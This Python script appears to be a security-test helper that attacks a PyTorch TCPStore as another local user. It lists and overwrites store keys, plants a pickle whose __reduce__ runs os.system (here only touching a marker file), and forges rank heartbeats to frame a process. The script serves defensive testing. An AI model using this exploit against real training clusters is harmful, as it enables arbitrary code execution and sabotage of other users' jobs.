"""Another local user's attack on a job's store: torch's TCPStore wire protocol, stdlib only.

    /usr/bin/python3 store_attacker.py PORT list
    /usr/bin/python3 store_attacker.py PORT set KEY HEXVALUE
    /usr/bin/python3 store_attacker.py PORT pickle MARKER      # rendezvous state -> a pickle
    /usr/bin/python3 store_attacker.py PORT garbage -          # rendezvous state -> garbage
    /usr/bin/python3 store_attacker.py PORT heartbeat HOST PID  # frame process PID as rank 1

Run as `nobody` by tests/test_store_attacks.py: that user cannot read our Python or torch
(/root is 0700), so it speaks the protocol itself, as any attacker could. Keys are listed,
not guessed (the one-node rendezvous id is random). Prints what it did, one line per write.
"""

from __future__ import annotations

import base64
import os
import pickle
import socket
import struct
import sys
import time

_VALIDATE, _SET, _GET, _LIST_KEYS = 0, 1, 3, 17
_MAGIC = 0x3C85F7CE


def _connect(port: int) -> socket.socket:
    deadline = time.monotonic() + 30
    while True:  # the job may not be listening yet
        try:
            connection = socket.create_connection(("127.0.0.1", port), timeout=10)
            break
        except ConnectionRefusedError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.2)
    connection.sendall(bytes([_VALIDATE]) + struct.pack("<I", _MAGIC))
    return connection


def _exact(connection: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        chunk = connection.recv(size - len(data))
        if not chunk:
            raise EOFError("store closed the connection")
        data += chunk
    return data


def _field(value: bytes) -> bytes:
    return struct.pack("<Q", len(value)) + value


def _read_field(connection: socket.socket) -> bytes:
    (size,) = struct.unpack("<Q", _exact(connection, 8))
    return _exact(connection, size)


def list_keys(port: int) -> list[str]:
    with _connect(port) as connection:
        connection.sendall(bytes([_LIST_KEYS]))
        (count,) = struct.unpack("<Q", _exact(connection, 8))
        return [_read_field(connection).decode().removeprefix("/") for _ in range(count)]


def set_key(port: int, key: str, value: bytes) -> None:
    with _connect(port) as connection:
        connection.sendall(bytes([_SET]) + _field(("/" + key).encode()) + _field(value))
        time.sleep(0.2)  # a set has no reply: let the server take it before we hang up


def keep_setting(port: int, keys: list[str], value: bytes, seconds: float) -> None:
    """Write `value` to `keys` a hundred times a second until `seconds` pass or the job ends."""
    deadline = time.monotonic() + seconds
    try:
        with _connect(port) as connection:
            while time.monotonic() < deadline:
                for key in keys:
                    connection.sendall(bytes([_SET]) + _field(("/" + key).encode()) + _field(value))
                time.sleep(0.01)
    except OSError:
        return  # the job ended: its store is gone


class _Payload:
    """Unpickling this creates MARKER: the proof that the store's reader ran our code."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple:
        return (os.system, (f"touch {self.marker}",))


def _wait_for(port: int, wanted: str, limit_s: float = 60) -> list[str]:
    deadline = time.monotonic() + limit_s
    while time.monotonic() < deadline:
        keys = list_keys(port)
        if any(wanted in key for key in keys):
            return keys
        time.sleep(0.2)
    raise SystemExit(f"no key with {wanted!r} appeared in the store")


def main(argv: list[str]) -> None:
    port, command, *rest = argv
    where = int(port)
    if command == "list":
        print("\n".join(list_keys(where)))
    elif command == "set":
        set_key(where, rest[0], bytes.fromhex(rest[1]))
    elif command in ("pickle", "garbage"):
        keys = _wait_for(where, "heartbeat/")  # the workers are training by then
        state = [key for key in keys if key.startswith("torch.rendezvous.") and key.count(".") == 2]
        payload = (
            base64.b64encode(pickle.dumps(_Payload(rest[0])))
            if command == "pickle"
            else b"\xff\x00 not a rendezvous state"
        )
        for key in state:
            set_key(where, key, payload)
            print(f"wrote {command} to {key}", flush=True)
    elif command == "heartbeat":
        host, pid = rest
        keys = _wait_for(where, "heartbeat/")
        for key in keys:
            if key.endswith("/host/1"):
                set_key(where, key, f"{host} {pid}".encode())
                set_key(where, key.replace("/host/1", "/beat/1"), b"1")
                print(f"framed pid {pid} as {key}", flush=True)
        # Keep the beat frozen. The real rank 1 beats every second and its watcher reads it every
        # second too, so the forgery is rewritten a hundred times a second over one connection
        # for the watcher to read it rather than the real beat (rewritten twice a second, a run
        # once read only real beats and ended its 600 steps).
        beats = [key.replace("/host/1", "/beat/1") for key in keys if key.endswith("/host/1")]
        keep_setting(where, beats, b"1", seconds=60)
    else:
        raise SystemExit(f"unknown command {command!r}")


if __name__ == "__main__":
    main(sys.argv[1:])
